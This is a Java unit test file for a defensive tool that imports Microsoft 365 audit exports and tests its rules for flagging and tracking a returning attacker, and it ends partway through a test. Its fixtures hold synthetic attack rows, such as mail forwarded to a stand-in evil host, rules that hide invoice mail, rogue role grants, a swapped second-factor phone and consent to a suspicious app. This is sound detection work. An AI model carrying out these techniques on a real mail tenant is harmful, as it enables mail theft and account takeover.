package bzh.vigie.collector.detect;

import static bzh.vigie.collector.store.Specimens.ANALYST;
import static bzh.vigie.collector.store.Specimens.AURAY;
import static bzh.vigie.collector.store.Specimens.CONCARNEAU;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.detect.ExternalLogs.Kept;
import bzh.vigie.collector.detect.ExternalLogs.Reading;
import bzh.vigie.collector.detect.ExternalLogs.Times;
import bzh.vigie.collector.detect.Marking.Mark;
import bzh.vigie.collector.detect.Marking.Outcome;
import bzh.vigie.collector.detect.cloud.CloudReading;
import bzh.vigie.collector.detect.finding.Cards;
import bzh.vigie.collector.detect.returns.Sweep;
import bzh.vigie.collector.detect.returns.Sweep.Found;
import bzh.vigie.collector.detect.sigma.RuleSet;
import bzh.vigie.collector.incident.Evictions;
import bzh.vigie.collector.incident.WitnessIntake.Refusal;
import bzh.vigie.collector.intel.Indicator;
import bzh.vigie.collector.intel.Observable;
import bzh.vigie.collector.intel.Tlp;
import bzh.vigie.collector.store.Alerts;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.CloudExports;
import bzh.vigie.collector.store.CloudExports.CloudRecord;
import bzh.vigie.collector.store.CloudExports.Refused;
import bzh.vigie.collector.store.IncidentId;
import bzh.vigie.collector.store.Incidents.Incident;
import bzh.vigie.collector.store.Incidents.Interval;
import bzh.vigie.collector.store.Indicators.Listed;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.collector.store.Tombstones.Nature;
import bzh.vigie.collector.store.Tombstones.Recurrence;
import bzh.vigie.collector.store.Tombstones.Tombstone;
import bzh.vigie.collector.store.Witnesses;
import bzh.vigie.collector.store.Witnesses.Kind;
import bzh.vigie.collector.store.sqlite.SqliteStore;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What an export of Microsoft 365 shows, from its rows to alerts: when it is imported, and when something is marked or watched later. */
final class CloudIntakeTest {
    private static final Scope ALL = new Scope.All();
    private static final RuleSet RULES = ShippedRules.load();
    private static final Instant ENDED = Specimens.minute(60);
    private static final Instant NOW = Specimens.minute(60 * 24 * 20);
    private static final Instant SINCE = Specimens.minute(60 * 24 * 3);

    @TempDir
    Path dir;

    private SqliteStore store;
    private Incident incident;

    @BeforeEach
    void anIncidentWhoseEvictionEnded() {
        store = SqliteStore.open(dir, InstantSource.fixed(NOW));
        incident = store.write(s -> {
            Incident opened = s.incidents().open("messagerie", Set.of(AURAY), 90, ANALYST);
            s.incidents()
                    .eviction(
                            ALL,
                            opened.id(),
                            Optional.empty(),
                            Optional.of(new Interval(Specimens.minute(0), Optional.of(ENDED))),
                            ANALYST);
            return opened;
        });
    }

    @AfterEach
    void close() {
        store.close();
    }

    private static String row(String operation, String address, String more) {
        return "{\"CreationTime\":\"" + SINCE.toString().replace("Z", "") + "\",\"Operation\":\"" + operation
                + "\",\"Workload\":\"" + (operation.startsWith("User") ? "AzureActiveDirectory" : "Exchange")
                + "\",\"ResultStatus\":\"Success\",\"UserId\":\"lea@mairie.example\",\"ClientIP\":\"" + address + "\""
                + more + "}\n";
    }

    private static final String FORWARD = row(
            "New-InboxRule",
            "192.0.2.1",
            ",\"ObjectId\":\"lea\\\\regle\",\"Parameters\":[{\"Name\":\"Name\",\"Value\":\".\"},"
                    + "{\"Name\":\"ForwardTo\",\"Value\":\"copie@relais.evil.example\"}]");
    private static final String EXPORT = row("UserLoggedIn", "203.0.113.9", "")
            + row("UserLoginFailed", "198.51.100.7", "")
            + FORWARD
            + row("MailItemsAccessed", "192.0.2.1", "")
            + row("MailItemsAccessed", "203.0.113.9", "")
            + row("FileAccessed", "192.0.2.1", "");

    private Reading read(String text) throws IOException {
        CloudIntake intake = new CloudIntake(RULES);
        CloudReading cloud = store.read(s -> intake.reading(s, AURAY));
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        return ExternalLogs.read(
                () -> new ByteArrayInputStream(bytes),
                new Times(ZoneOffset.UTC, Optional.empty(), OptionalInt.empty()),
                cloud);
    }

    private Kept take(String text) throws IOException {
        return take("audit.jsonl", text);
    }

    private Kept take(String name, String text) throws IOException {
        Reading read = read(text);
        assertEquals(Optional.empty(), read.refusal());
        return store.write(s -> ExternalLogs.keep(
                        s, ALL, incident.id(), AURAY, name, Kind.MAIL, read, new CloudIntake(RULES), ANALYST, NOW))
                .orElseThrow();
    }

    private List<Alert> alerts() {
        return store.read(s -> s.alerts().list(ALL, Alerts.Filter.NONE, Optional.empty(), 100));
    }

    private Set<String> rules() {
        Set<String> rules = new TreeSet<>();
        alerts().forEach(each -> rules.add(each.rule()));
        return rules;
    }

    private List<Listed> watch(Observable... what) {
        return store.write(
                s -> s.indicators().add(Optional.of(incident.id().text()), indicators(what), "test", ANALYST));
    }

    private static List<Indicator> indicators(Observable... what) {
        return List.of(what).stream()
                .map(each ->
                        new Indicator(each, "test", "", Tlp.GREEN, 80, Optional.empty(), Optional.empty(), false, true))
                .toList();
    }

    private Tombstone mark(String command) {
        return store.write(s -> s.tombstones()
                        .add(
                                ALL,
                                incident.id(),
                                AURAY,
                                Optional.empty(),
                                "linux.cron.d|x",
                                Map.of(
                                        "location", "linux.cron.d",
                                        "name", "x",
                                        "source", "/etc/cron.d/x",
                                        "value", command,
                                        "target", "/usr/bin/curl"),
                                Optional.empty(),
                                ANALYST))
                .orElseThrow();
    }

    @Test
    void rulesFindWhatWasDoneAndWhatNobodyJudgesIsCounted() throws IOException {
        Kept kept = take(EXPORT);
        assertEquals(1, kept.raised());
        Alert alert = alerts().getFirst();
        assertEquals("vigie-cloud-mail-forwarded", alert.rule());
        assertEquals(CloudExports.HOST, alert.hostname());
        assertEquals(SINCE, alert.hostTime());
        assertEquals("lea@mairie.example", alert.evidence().get("account"));
        assertEquals("3", alert.evidence().get("row"));
        CloudExports.Summary summary =
                store.read(s -> s.cloudExports().summary(kept.number())).orElseThrow();
        assertEquals(6, summary.rows());
        assertEquals(2, summary.signIns());
        assertEquals(Map.of("MailItemsAccessed", 2, "FileAccessed", 1), summary.notJudged());
        assertEquals(3, summary.unjudged());
        List<CloudRecord> records = store.read(s -> s.cloudExports().records(kept.number()));
        assertEquals(
                List.of("New-InboxRule"),
                records.stream().map(CloudRecord::operation).toList());
        assertEquals(
                List.of("lea"),
                store.read(s -> s.witnesses().lines(kept.number(), -1, 10)).stream()
                        .map(each -> each.account())
                        .distinct()
                        .toList());
    }

    /** The same export a week later, with what was in it before: what is known is not told again. */
    @Test
    void whatIsInTwoExportsIsOneAlert() throws IOException {
        take(EXPORT);
        assertEquals(0, take(EXPORT + row("FileAccessed", "192.0.2.1", "")).raised());
        assertEquals(1, alerts().size());
    }

    @Test
    void anIndicatorIsTellingInWhicheverOperationItIs() throws IOException {
        watch(new Observable.Address("203.0.113.9"), new Observable.Domain("evil.example"));
        take(EXPORT);
        assertEquals(
                Map.of("203.0.113.9", 1L, "evil.example", 1L),
                alerts().stream()
                        .filter(each -> each.rule().equals("vigie-suspected-return"))
                        .collect(Collectors.groupingBy(
                                each -> each.evidence().getOrDefault("indicator", ""), Collectors.counting())));
        // of an operation that nobody judges too
        take(row("MailItemsAccessed", "203.0.113.9", ""));
        long last = store.read(s -> s.witnesses().imports(ALL, incident.id()))
                .getLast()
                .number();
        assertEquals(1, store.read(s -> s.cloudExports().records(last)).size());
    }

    @Test
    void aNewIndicatorIsLookedForInWhatWasImportedBefore() throws IOException {
        take(EXPORT);
        List<Listed> fresh = watch(
                new Observable.Address("203.0.113.9"),
                new Observable.Address("198.51.100.7"),
                new Observable.UserAccount("copie@relais.evil.example"));
        LookBack back = new LookBack(store, new MemoryHistory(), new Cards(RULES.cards()), fresh);
        // The address by who came from it: a row that was kept, and a sign-in, which is kept without the domain.
        assertEquals(3, back.run(ALL, NOW).alerts());
        assertEquals(Set.of("vigie-cloud-mail-forwarded", "vigie-suspected-return"), rules());
        assertEquals(
                0,
                new LookBack(store, new MemoryHistory(), new Cards(RULES.cards()), fresh)
                        .run(ALL, NOW)
                        .alerts());
    }

    /** What the attacker used is used again: after the eviction a recurrence with a nature to be said, before it a part of the attack. */
    @Test
    void anIndicatorOfTheIncidentIsARecurrenceAndOneOfTheRegionIsSeen() throws IOException {
        List<Listed> own = watch(new Observable.Address("203.0.113.9"));
        store.change(s ->
                s.indicators().add(Optional.empty(), indicators(new Observable.Address("198.51.100.7")), "x", ANALYST));
        take(EXPORT
                + EXPORT.replace(
                        SINCE.toString().replace("Z", ""),
                        Specimens.minute(5).toString().replace("Z", "")));
        List<Recurrence> again = store.read(s -> s.tombstones().recurrences(ALL, incident.id()));
        assertEquals(
                Map.of("vigie-suspected-return", false, "vigie-same-attack", true),
                again.stream().collect(Collectors.toMap(each -> each.alert().rule(), Recurrence::sameAttack)));
        assertEquals(1L, store.<Long>read(s -> s.tombstones().undecided(ALL, incident.id())));
        Alert returned = alerts().stream()
                .filter(each -> each.rule().equals("vigie-suspected-return"))
                .findFirst()
                .orElseThrow();
        isRecurrence(returned);
        assertEquals(SINCE, returned.hostTime());
        assertEquals("lea@mairie.example", returned.evidence().get("account"));
        assertEquals(
                1,
                alerts().stream()
                        .filter(each -> each.rule().equals("vigie-indicator-seen"))
                        .count());
        assertEquals(
                2L,
                store.<Long>read(
                        s -> s.alerts().countOfIndicator(ALL, own.getFirst().id())));
        store.change(s -> assertTrue(s.tombstones().nature(ALL, returned.id(), Nature.RETURNED, ANALYST)));
        assertEquals(0L, store.<Long>read(s -> s.tombstones().undecided(ALL, incident.id())));
    }

    private Marking marking() {
        return new Marking(store, ALL, incident, new Cards(RULES.cards()), InstantSource.fixed(NOW));
    }

    private Outcome.Marked markAlert(String rule, boolean withAccount) {
        String id = alerts().stream()
                .filter(each -> each.rule().equals(rule))
                .findFirst()
                .orElseThrow()
                .id();
        Mark mark = marking().ofAlert(id).orElseThrow();
        return assertInstanceOf(
                Outcome.Marked.class,
                marking()
                        .mark(
                                List.of(withAccount ? Marking.withAccount(mark) : mark),
                                Optional.empty(),
                                ANALYST,
                                Marking.MANY));
    }

    private Set<String> returned() {
        Set<String> all = new TreeSet<>();
        alerts().stream()
                .filter(each -> each.rule().equals("vigie-suspected-return"))
                .forEach(each -> all.add(each.evidence().get("account") + " "
                        + each.evidence().get("action") + " " + each.evidence().getOrDefault("known_parts", "")));
        return all;
    }

    private static String before(String row) {
        return row.replace(
                SINCE.toString().replace("Z", ""),
                Specimens.minute(5).toString().replace("Z", ""));
    }

    private static String of(String user, String row) {
        return row.replace("lea@mairie.example", user + "@mairie.example").replace("192.0.2.1", "192.0.2.77");
    }

    /** The recipient of a forwarding rule, set anew for somebody else, by another operation and from elsewhere. */
    @Test
    void aMarkedForwardingIsKnownAgainByItsRecipient() throws IOException {
        take("avant", before(FORWARD));
        Outcome.Marked marked = markAlert("vigie-cloud-mail-forwarded", false);
        assertEquals(0, marked.swept().found().size(), "the marked act itself is no recurrence");
        String mailbox = ",\"ObjectId\":\"marc\",\"Parameters\":[{\"Name\":\"ForwardingSmtpAddress\",\"Value\":\"smtp:";
        take("apres", of("marc", row("Set-Mailbox", "192.0.2.1", mailbox + "COPIE@relais.evil.example\"}]")));
        assertEquals(
                Set.of("marc@mairie.example Set-Mailbox copie@relais.evil.example\nrelais.evil.example"), returned());
        // neither the victim nor what else is forwarded is the attacker's
        take(
                "autres",
                of("anne", row("Set-Mailbox", "192.0.2.1", mailbox + "anne@ailleurs.example\"}]"))
                        + row("Set-Mailbox", "198.51.100.20", mailbox + "marc@mairie.example\"}]")
                        + row("UserLoggedIn", "198.51.100.20", "")
                        + row("MailItemsAccessed", "198.51.100.20", ""));
        assertEquals(1, returned().size());
    }

    /** Whoever reads files from a marked address does one thing; what is judged is one for each object. */
    @Test
    void aThousandFilesReadFromAMarkedAddressAreOneRecurrence() throws IOException {
        take("avant", before(FORWARD));
        markAlert("vigie-cloud-mail-forwarded", false);
        StringBuilder rows = new StringBuilder();
        for (int i = 0; i < 1_000; i++) {
            rows.append(of(
                            "marc",
                            row("FileDownloaded", "192.0.2.1", ",\"ObjectId\":\"https://x.sharepoint.com/" + i + "\""))
                    .replace("192.0.2.77", "192.0.2.1"));
        }
        for (String mailbox : List.of("accueil", "maire")) {
            rows.append(permission("Add-MailboxPermission", "User", "stage", mailbox)
                    .replace("192.0.2.77", "192.0.2.1"));
        }
        take("apres", rows.toString());
        assertEquals(
                Map.of("FileDownloaded", 1L, "Add-MailboxPermission", 2L),
                alerts().stream()
                        .filter(each -> each.rule().equals("vigie-suspected-return"))
                        .collect(Collectors.groupingBy(
                                each -> each.evidence().getOrDefault("action", ""), Collectors.counting())));
    }

    @Test
    void aMailServiceOfAnybodyIsNoFeatureButTheAddressIs() throws IOException {
        String forward =
                ",\"ObjectId\":\"lea\",\"Parameters\":[{\"Name\":\"ForwardTo\",\"Value\":\"relais.29@gmail.com\"}]";
        take("avant", before(row("New-InboxRule", "192.0.2.1", forward)));
        markAlert("vigie-cloud-mail-forwarded", false);
        take("autre", of("marc", row("New-InboxRule", "192.0.2.1", forward.replace("relais.29", "marc.perso"))));
        assertEquals(Set.of(), returned());
        take("meme", of("anne", row("Set-InboxRule", "192.0.2.1", forward)));
        assertEquals(Set.of("anne@mairie.example Set-InboxRule relais.29@gmail.com"), returned());
    }

    @Test
    void whereAMarkedActWasDoneFromIsKnownAgainAlsoInIpv6() throws IOException {
        take("avant", before(FORWARD.replace("192.0.2.1", "2001:DB8:0:0::9")));
        markAlert("vigie-cloud-mail-forwarded", false);
        take(
                "apres",
                of("marc", row("UserLoggedIn", "192.0.2.1", ""))
                        + of("anne", row("UserLoggedIn", "192.0.2.1", ""))
                                .replace("192.0.2.77", "[2001:db8::9]:51000"));
        assertEquals(Set.of("anne@mairie.example UserLoggedIn 2001:db8:0:0:0:0:0:9\n2001:db8:0:0::/64"), returned());
    }

    /** Who did it is mostly the victim; an account that the attacker made is marked with the act. */
    @Test
    void theAccountOfAMarkedActCountsOnlyWhereSomebodySaysSo() throws IOException {
        take("avant", before(FORWARD));
        markAlert("vigie-cloud-mail-forwarded", false);
        take(
                "apres",
                row("UserLoggedIn", "198.51.100.20", "")
                        + row("Set-CASMailbox", "198.51.100.20", ",\"Parameters\":[]"));
        assertEquals(Set.of(), returned());
        markAlert("vigie-cloud-mail-forwarded", true);
        assertEquals(Set.of("lea Sign-in ", "lea@mairie.example Set-CASMailbox "), returned());
    }

    /** It names nobody outside: who made it, from where, and the words together with their end make it the attacker's. */
    @Test
    void aRuleThatHidesMailIsARecurrenceByItsWordsByAMarkedAccountOrFromAMarkedAddress() throws IOException {
        String hides = ",\"Parameters\":[{\"Name\":\"SubjectContainsWords\",\"Value\":\"facture;virement;invoice\"},"
                + "{\"Name\":\"MoveToFolder\",\"Value\":\"RSS Feeds\"},{\"Name\":\"MarkAsRead\",\"Value\":\"True\"}]";
        take("avant", before(row("New-InboxRule", "192.0.2.1", hides)));
        markAlert("vigie-cloud-inbox-rule-hides-mail", true);
        String newsletter = hides.replace("facture;virement;invoice", "lettre;promotion");
        String sorts = hides.replace("RSS Feeds", "Comptabilité");
        take(
                "autres",
                of("anne", row("New-InboxRule", "192.0.2.1", newsletter))
                        + of("paul", row("New-InboxRule", "192.0.2.1", sorts)));
        // the same three words into an ordinary folder
        assertEquals(Set.of("paul@mairie.example New-InboxRule facture;invoice;virement"), returned());
        assertEquals("possible", certainty("paul@mairie.example"));
        take(
                "adresse",
                of("marc", row("New-InboxRule", "192.0.2.1", newsletter)).replace("192.0.2.77", "192.0.2.1"));
        Set<String> all = new TreeSet<>(Set.of(
                "marc@mairie.example New-InboxRule 192.0.2.1",
                "paul@mairie.example New-InboxRule facture;invoice;virement"));
        assertEquals(all, returned());
        take("compte", row("Set-InboxRule", "198.51.100.20", newsletter));
        all.add("lea@mairie.example Set-InboxRule ");
        assertEquals(all, returned());
        take(
                "mots",
                of(
                        "anne",
                        row("Set-InboxRule", "192.0.2.1", hides)
                                .replace("facture;virement;invoice", "Invoice;Facture;Virement")
                                .replace("RSS Feeds", "Archive")));
        Set<String> more = returned();
        more.removeAll(all);
        assertEquals(1, more.size(), more::toString);
        assertTrue(more.iterator().next().contains("\nhides=facture;invoice;virement\n"), more::toString);
        assertEquals("likely", certainty("anne@mairie.example"));
    }

    private String certainty(String account) {
        return alerts().stream()
                .filter(each -> each.rule().equals("vigie-suspected-return")
                        && each.evidence().getOrDefault("account", "").equals(account))
                .map(each -> each.evidence().get("certainty"))
                .distinct()
                .collect(Collectors.joining(" "));
    }

    private static String role(String by, String to) {
        return row(
                        "Add member to role.",
                        "192.0.2.1",
                        ",\"ObjectId\":\"" + to + "\",\"ModifiedProperties\":["
                                + "{\"Name\":\"Role.DisplayName\",\"NewValue\":\"Exchange Administrator\",\"OldValue\":\"\"}]")
                .replace("\"Exchange\"", "\"AzureActiveDirectory\"")
                .replace("lea@mairie.example", by)
                .replace("192.0.2.1", "192.0.2.2");
    }

    /** Whoever got a role by it comes again in its name: in the records and where only the sign-in is kept. */
    @Test
    void theAccountThatGotARoleIsKnownAgainAndWhoGaveItIsNot() throws IOException {
        String by = "dsi@mairie.onmicrosoft.example";
        take("avant", before(role(by, "imprim3@mairie.example")));
        take(
                "connexions",
                of("imprim3", row("UserLoggedIn", "192.0.2.1", "")) + of("anne", row("UserLoggedIn", "192.0.2.1", "")));
        markAlert("vigie-cloud-role-added", false);
        assertEquals(Set.of("imprim3 Sign-in "), returned());
        assertEquals("likely", certainty("imprim3"));
        take(
                "apres",
                of("imprim3", row("UserLoggedIn", "192.0.2.1", "")).replace("192.0.2.77", "192.0.2.78")
                        + role(by, "anne@mairie.example").replace("192.0.2.2", "192.0.2.3")
                        + role(by, "imprim3@mairie.example")
                                .replace("192.0.2.2", "192.0.2.3")
                                .replace("Add member to role.", "Remove member from role.")
                        + row("UserLoggedIn", "192.0.2.3", "").replace("lea@mairie.example", by));
        assertEquals(Set.of("imprim3 Sign-in ", "imprim3@mairie.example UserLoggedIn "), returned());
        assertEquals("likely", certainty("imprim3@mairie.example"));
    }

    /** Sign-ins are kept without the domain: in another commune the same name is another person. */
    @Test
    void aNamesakeInAnotherCommuneIsNoRecurrence() throws IOException {
        store.change(s -> assertTrue(s.incidents().extend(ALL, incident.id(), CONCARNEAU, ANALYST)));
        take("avant", before(role("dsi@mairie.example", "scan@mairie.example")));
        markAlert("vigie-cloud-role-added", false);
        String scan = of("scan", row("UserLoggedIn", "192.0.2.1", ""));
        Reading read = read(scan.replace("scan@mairie.example", "scan@autre.example"));
        store.change(s -> ExternalLogs.keep(
                s, ALL, incident.id(), CONCARNEAU, "b", Kind.MAIL, read, new CloudIntake(RULES), ANALYST, NOW));
        assertEquals(Set.of(), returned());
        take("ici", scan);
        assertEquals(Set.of("scan@mairie.example UserLoggedIn "), returned());
    }

    /** An account that was made is told, so that it can be marked, and is known again by what it does. */
    @Test
    void anAccountThatWasMadeIsKnownAgain() throws IOException {
        String made = role("dsi@mairie.example", "scan9@mairie.example").replace("Add member to role.", "Add user.");
        take("avant", before(made));
        markAlert("vigie-cloud-account-made", false);
        take("apres", of("scan9", FORWARD) + of("anne", row("UserLoggedIn", "192.0.2.1", "")));
        assertEquals(Set.of("scan9@mairie.example New-InboxRule "), returned());
    }

    private static String factor(String user, String before, String now) {
        String phone = "[{\\\"PhoneNumber\\\":%s,\\\"AlternativePhoneNumber\\\":null,\\\"Email\\\":null}]";
        return of(
                user,
                row(
                                "Update user.",
                                "192.0.2.1",
                                ",\"ObjectId\":\"lea@mairie.example\",\"ModifiedProperties\":["
                                        + "{\"Name\":\"StrongAuthenticationUserDetails\",\"NewValue\":\""
                                        + phone.formatted(now) + "\",\"OldValue\":\"" + phone.formatted(before)
                                        + "\"}]")
                        .replace("\"Exchange\"", "\"AzureActiveDirectory\""));
    }

    private static String number(String digits) {
        return "\\\"" + digits + "\\\"";
    }

    /** The number that was there before is the victim's. */
    @Test
    void thePhoneOfANewSecondFactorIsKnownAgainWhosePhoneItBecomes() throws IOException {
        take("avant", before(factor("lea", number("+33 612345678"), number("+33 798765432"))));
        markAlert("vigie-cloud-second-factor-added", false);
        take(
                "apres",
                (factor("anne", "null", number("+33 7 98 76 54 32"))
                                + factor("marc", "null", number("+33 611111111"))
                                + factor("lea", number("+33 798765432"), number("+33 612345678")))
                        .replace("192.0.2.77", "192.0.2.78"));
        assertEquals(Set.of("anne@mairie.example Update user +33798765432"), returned());
        assertEquals("likely", certainty("anne@mairie.example"));
    }

    private static String permission(String operation, String as, String who, String mailbox) {
        return of(
                "dsi",
                row(
                        operation,
                        "192.0.2.1",
                        ",\"ObjectId\":\"" + mailbox + "\",\"Parameters\":["
                                + "{\"Name\":\"Identity\",\"Value\":\"" + mailbox + "\"},{\"Name\":\"" + as
                                + "\",\"Value\":\""
                                + who + "\"},{\"Name\":\"AccessRights\",\"Value\":\"FullAccess\"}]"));
    }

    /** The same right again is likely the attacker's; another right of the same person is possibly, and one's daily sign-in is nothing. */
    @Test
    void whoGotARightToAMailboxIsKnownAgainByItsRights() throws IOException {
        take("avant", before(permission("Add-MailboxPermission", "User", "anne@mairie2.example", "maire")));
        markAlert("vigie-cloud-mailbox-permission", false);
        String from = "198.51.100.20";
        take(
                "connexion",
                (of("anne", row("UserLoggedIn", "192.0.2.1", ""))
                                + permission("Add-MailboxPermission", "User", "paul@mairie2.example", "maire"))
                        .replace("192.0.2.77", from));
        assertEquals(Set.of(), returned());
        take(
                "autre",
                permission("Add-MailboxPermission", "User", "anne", "accueil").replace("192.0.2.77", from));
        assertEquals("possible", certainty("dsi@mairie.example"));
        take(
                "meme",
                permission("Add-RecipientPermission", "Trustee", "Anne@mairie2.example", "maire@mairie.example")
                        .replace("dsi@", "dgs@")
                        .replace("192.0.2.77", from));
        assertEquals("likely", certainty("dgs@mairie.example"));
    }

    private static String federation(String by, String domain, String issuer) {
        return of(
                by,
                row(
                                "Set federation settings on domain.",
                                "192.0.2.1",
                                ",\"ObjectId\":\"" + domain
                                        + "\",\"ModifiedProperties\":[{\"Name\":\"IssuerUri\",\"NewValue\":\"" + issuer
                                        + "\",\"OldValue\":\"http://sts.mairie.example/adfs\"}]")
                        .replace("\"Exchange\"", "\"AzureActiveDirectory\""));
    }

    @Test
    void theIssuerOfAFederationIsKnownAgainAndTheTownHallsDomainIsNot() throws IOException {
        take("avant", before(federation("dsi", "commune.example", "http://jetons.sts/4c1e09aa")));
        markAlert("vigie-cloud-domain-trust", false);
        String from = "198.51.100.20";
        take(
                "apres",
                (federation("dgs", "autre.example", "HTTP://jetons.sts/4c1e09aa/")
                                + federation(
                                        "dsi", "commune.example", "https://adfs.commune.example/adfs/services/trust")
                                + row(
                                        "New-InboxRule",
                                        from,
                                        ",\"Parameters\":[{\"Name\":\"ForwardTo\",\"Value\":\"x@commune.example\"}]"))
                        .replace("192.0.2.77", from));
        assertEquals(
                Set.of("dgs@mairie.example Set federation settings on domain http://jetons.sts/4c1e09aa\njetons.sts"),
                returned());
    }

    /** In the unified audit log only the type of the request says it. */
    @Test
    void aSignInByADeviceCodeIsMarkedAndItsAddressIsKnownAgain() throws IOException {
        String code = ",\"ObjectId\":\"00000003-0000-0000-c000-000000000000\",\"ExtendedProperties\":["
                + "{\"Name\":\"RequestType\",\"Value\":\"Cmsi:Cmsi\"}]";
        take("avant", before(row("UserLoggedIn", "203.0.113.77", code)));
        markAlert("vigie-cloud-sign-in-confirmed", false);
        take(
                "apres",
                of("anne", row("UserLoggedIn", "203.0.113.77", "")) + of("marc", row("UserLoggedIn", "192.0.2.1", "")));
        assertEquals(Set.of("anne@mairie.example UserLoggedIn 203.0.113.77"), returned());
    }

    private static final String APP = "5d1e9a5b-6d2f-4bb0-9d6c-0a7e5a1f2c33";
    private static final String CONSENT = "{\"id\":\"2\",\"category\":\"ApplicationManagement\",\"result\":\"success\","
            + "\"activityDisplayName\":\"Consent to application\",\"activityDateTime\":\"WHEN\","
            + "\"initiatedBy\":{\"user\":{\"userPrincipalName\":\"lea@mairie.example\",\"ipAddress\":\"192.0.2.1\"}},"
            + "\"targetResources\":[{\"id\":\"7f8a4d0e-58d5-4c52-8a38-2d2a5b3c9a01\",\"displayName\":\"Mail Helper\","
            + "\"type\":\"ServicePrincipal\",\"modifiedProperties\":["
            + "{\"displayName\":\"ConsentContext.IsAdminConsent\",\"oldValue\":null,\"newValue\":\"\\\"False\\\"\"},"
            + "{\"displayName\":\"ConsentAction.Permissions\",\"oldValue\":null,\"newValue\":\"\\\"[] => [[Scope: Mail.Read User.Read]]\\\"\"},"
            + "{\"displayName\":\"TargetId.ServicePrincipalNames\",\"oldValue\":null,\"newValue\":\"\\\"" + APP
            + "\\\"\"}]}]}\n";

    private static String signIn(String more) {
        return "{\"createdDateTime\":\"" + SINCE + "\",\"ipAddress\":\"198.51.100.44\",\"status\":{\"errorCode\":0},"
                + more + "}\n";
    }

    private static String signIn(String user, String application, String id) {
        return signIn("\"userPrincipalName\":\"" + user + "\",\"appDisplayName\":\"" + application + "\",\"appId\":\""
                + id + "\"");
    }

    /** A display name is what its maker chose: an application is known by its id, under whichever name and in whichever log. */
    @Test
    void anApplicationThatWasLetInIsKnownAgainByItsId() throws IOException {
        take("avant", CONSENT.replace("WHEN", Specimens.minute(5).toString()));
        markAlert("vigie-cloud-consent", false);
        take(
                "apres",
                signIn("marc@mairie.example", "Outlook Sync", APP.toUpperCase(Locale.ROOT))
                        + signIn("anne@mairie.example", "Office 365", "00000002-0000-0ff1-ce00-000000000000")
                        + signIn(
                                "\"servicePrincipalName\":\"Autre nom\",\"appId\":\"" + APP
                                        + "\",\"signInEventTypes\":[\"servicePrincipal\"],\"servicePrincipalId\":\"7f8a4d0e-58d5-4c52-8a38-2d2a5b3c9a01\"")
                        + CONSENT.replace("WHEN", SINCE.toString())
                                .replace(APP, "11111111-2222-3333-4444-555555555555")
                                .replace("7f8a4d0e", "11111111")
                                .replace("192.0.2.1", "198.51.100.20"));
        assertEquals(
                Set.of(
                        "Autre nom Sign-in of an application " + APP + "\n7f8a4d0e-58d5-4c52-8a38-2d2a5b3c9a01",
                        "marc@mairie.example Sign-in " + APP),
                returned());
    }

    /** What the town hall itself uses is in most rows: its tenant, Microsoft's resources, the applications of Office. */
    @Test
    void aTenantOfOthersIsKnownAgainAndOnesOwnIsNot() throws IOException {
        String own = "\"resourceTenantId\":\"aaaaaaaa-0000-4000-8000-00000000000a\",";
        String guest = own
                + "\"userType\":\"guest\",\"homeTenantId\":\"bbbbbbbb-0000-4000-8000-00000000000b\",\"clientAppUsed\":\"IMAP4\",\"appDisplayName\":\"X\",\"userPrincipalName\":\"";
        take(
                "avant",
                signIn(guest + "relais@evil.example\"")
                        .replace(SINCE.toString(), Specimens.minute(5).toString()));
        markAlert("vigie-cloud-legacy-protocol", false);
        String member = own
                + "\"userType\":\"member\",\"homeTenantId\":\"aaaaaaaa-0000-4000-8000-00000000000a\",\"appDisplayName\":\"X\",\"userPrincipalName\":\"";
        take(
                "apres",
                (signIn(member + "marc@mairie.example\"") + signIn(guest + "autre@evil2.example\""))
                        .replace("198.51.100.44", "198.51.100.45"));
        assertEquals(Set.of("autre@evil2.example Sign-in bbbbbbbb-0000-4000-8000-00000000000b"), returned());
    }

    @Test
    void anApplicationsIdIsWatchedAsAnAccountIs() throws IOException {
        watch(new Observable.UserAccount(APP));
        take(signIn("marc@mairie.example", "Outlook Sync", APP)
                + signIn("anne@mairie.example", "Office 365", "00000002-0000-0ff1-ce00-000000000000"));
        assertEquals(
                List.of("marc@mairie.example"),
                alerts().stream().map(each -> each.evidence().get("account")).toList());
    }

    /** The cloud is one host for all: whoever comes from the town hall's own address is many people. */
    @Test
    void aMarkThatManyAccountsWouldMatchIsAskedForAgain() throws IOException {
        take("avant", before(FORWARD));
        StringBuilder people = new StringBuilder();
        for (int i = 0; i <= Marking.MANY; i++) {
            people.append(of("agent" + i, row("UserLoggedIn", "192.0.2.1", "")).replace("192.0.2.77", "192.0.2.1"));
        }
        take("apres", people.toString());
        String id = alerts().stream()
                .filter(each -> each.rule().equals("vigie-cloud-mail-forwarded"))
                .findFirst()
                .orElseThrow()
                .id();
        Outcome outcome =
                marking().mark(List.of(marking().ofAlert(id).orElseThrow()), Optional.empty(), ANALYST, Marking.MANY);
        assertEquals(
                Marking.MANY + 1,
                assertInstanceOf(Outcome.TooLike.class, outcome).hosts());
    }

    /** A week of a town hall's programs that sign in without anybody: more than is kept one by one. */
    @Test
    void moreSignInsThanAreKeptAreKeptInSum() throws IOException {
        watch(new Observable.Address("203.0.113.9"));
        int rows = Witnesses.MOST_LINES + 1_000;
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < rows; i++) {
            text.append("{\"CreationTime\":\"")
                    .append(SINCE.plusSeconds(i))
                    .append("\",\"Operation\":\"UserLoggedIn\",\"Workload\":\"AzureActiveDirectory\",\"UserId\":\"u")
                    .append(i % 3)
                    .append("@mairie.example\",\"ClientIP\":\"203.0.113.9\"}\n");
        }
        Kept kept = take(text.toString());
        CloudExports.Summary summary =
                store.read(s -> s.cloudExports().summary(kept.number())).orElseThrow();
        assertEquals(rows, summary.rows());
        assertEquals(rows, summary.signIns());
